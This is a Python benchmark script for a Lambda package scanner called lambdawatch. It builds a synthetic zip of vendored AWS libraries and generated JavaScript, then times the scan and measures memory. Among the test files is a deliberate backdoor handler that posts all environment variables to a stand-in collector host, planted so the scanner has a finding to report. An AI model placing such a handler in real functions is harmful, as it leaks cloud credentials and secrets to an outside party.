"""Benchmark ``lambdawatch scan`` on a realistic ~50 MB Lambda package.

The package: a copy of the installed boto3 + botocore + s3transfer (vendored, with their
dist-info metadata), a generated node_modules-like JavaScript tree, and a few first-party
Python / JavaScript files (one of them a backdoor, so the scan has work to report).

    python bench/bench_scan.py [--js-mb 16] [--keep DIR]

The scan runs in a child process so that its peak RSS (``ru_maxrss``) is the scan's alone.
"""

from __future__ import annotations

import argparse
import importlib.util
import json
import os
import random
import resource
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

VENDORED = ("boto3", "botocore", "s3transfer")
FIRST_PARTY = {
    "handler.py": "import os, json, requests\n\ndef handler(event, context):\n"
    "    requests.post('https://collector.example.net/x', json=dict(os.environ))\n"
    "    return {'statusCode': 200, 'body': json.dumps(event)}\n",
    "lib/records.py": "import base64, json\n\ndef decode(records):\n"
    "    return [json.loads(base64.b64decode(r['data'])) for r in records]\n",
    "web/index.js": "const { SecretsManagerClient, GetSecretValueCommand } = "
    "require('@aws-sdk/client-secrets-manager');\nconst c = new SecretsManagerClient({});\n"
    "exports.handler = async () => c.send(new GetSecretValueCommand({SecretId: 'x'}));\n",
}


def _js_module(rng: random.Random, i: int) -> str:
    parts = [
        f"'use strict';\nconst util = require('util');\nconst dep{i} = require('./dep{i % 7}');\n"
    ]
    for j in range(120):
        parts.append(
            f"function fn_{i}_{j}(a, b) {{\n  const x = [a, b, {rng.randint(0, 9999)}]"
            f".map((v) => String(v) + '{rng.random():.6f}');\n  if (x.length > {j % 5}) "
            f"{{ return util.format('%s-%s', x[0], x[1]); }}\n  return JSON.stringify({{ a, b, k: "
            f"'{rng.getrandbits(64):x}' }});\n}}\nmodule.exports.fn_{i}_{j} = fn_{i}_{j};\n"
        )
    return "".join(parts)


def build(root: Path, js_mb: int) -> Path:
    site = Path(importlib.util.find_spec("botocore").origin).parents[1]  # type: ignore[union-attr]
    pkg = root / "pkg.zip"
    rng = random.Random(7)
    with zipfile.ZipFile(pkg, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for entry in sorted(site.iterdir()):
            if entry.name in VENDORED or (
                entry.name.endswith(".dist-info") and entry.name.split("-")[0] in VENDORED
            ):
                for f in sorted(entry.rglob("*")):
                    if f.is_file() and "__pycache__" not in f.parts:
                        zf.write(f, f.relative_to(site).as_posix())
        written, i = 0, 0
        while written < js_mb * 1024 * 1024:
            text = _js_module(rng, i)
            zf.writestr(f"node_modules/pkg{i // 40}/lib/mod{i}.js", text)
            if i % 40 == 0:
                zf.writestr(
                    f"node_modules/pkg{i // 40}/package.json",
                    json.dumps({"name": f"pkg{i // 40}", "version": "1.0.0"}),
                )
            written += len(text)
            i += 1
        for name, text in FIRST_PARTY.items():
            zf.writestr(name, text)
    return pkg


def scan_only(path: str) -> None:
    from lambdawatch.codescan.scanner import scan_bytes

    data = Path(path).read_bytes()
    t0 = time.perf_counter()
    result = scan_bytes(path, Path(path).name, data)
    wall = time.perf_counter() - t0
    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    sev: dict[str, int] = {}
    for f in result.findings:
        sev[str(f.severity)] = sev.get(str(f.severity), 0) + 1
    print(
        json.dumps(
            {
                "scan_seconds": round(wall, 2),
                "peak_rss_mb": round(peak_mb, 1),
                "files_scanned": result.files_scanned,
                "uncompressed_mb": round(result.bytes_scanned / 2**20, 1),
                "findings_by_severity": sev,
                "errors": len(result.errors),
            }
        )
    )


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--js-mb", type=int, default=28)
    ap.add_argument("--keep", default=None, help="folder to keep the generated zip in")
    ap.add_argument("--scan-only", default=None, help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.scan_only:
        scan_only(args.scan_only)
        return
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(args.keep or tmp)
        root.mkdir(parents=True, exist_ok=True)
        pkg = build(root, args.js_mb)
        t0 = time.perf_counter()
        out = subprocess.run(
            [sys.executable, __file__, "--scan-only", str(pkg)],
            check=True,
            capture_output=True,
            text=True,
        ).stdout
        stats = json.loads(out)
        stats["process_seconds"] = round(time.perf_counter() - t0, 2)
        stats["zip_mb"] = round(pkg.stat().st_size / 2**20, 1)
        stats["cpus"] = os.cpu_count()
        print(json.dumps(stats, indent=2))


if __name__ == "__main__":
    main()
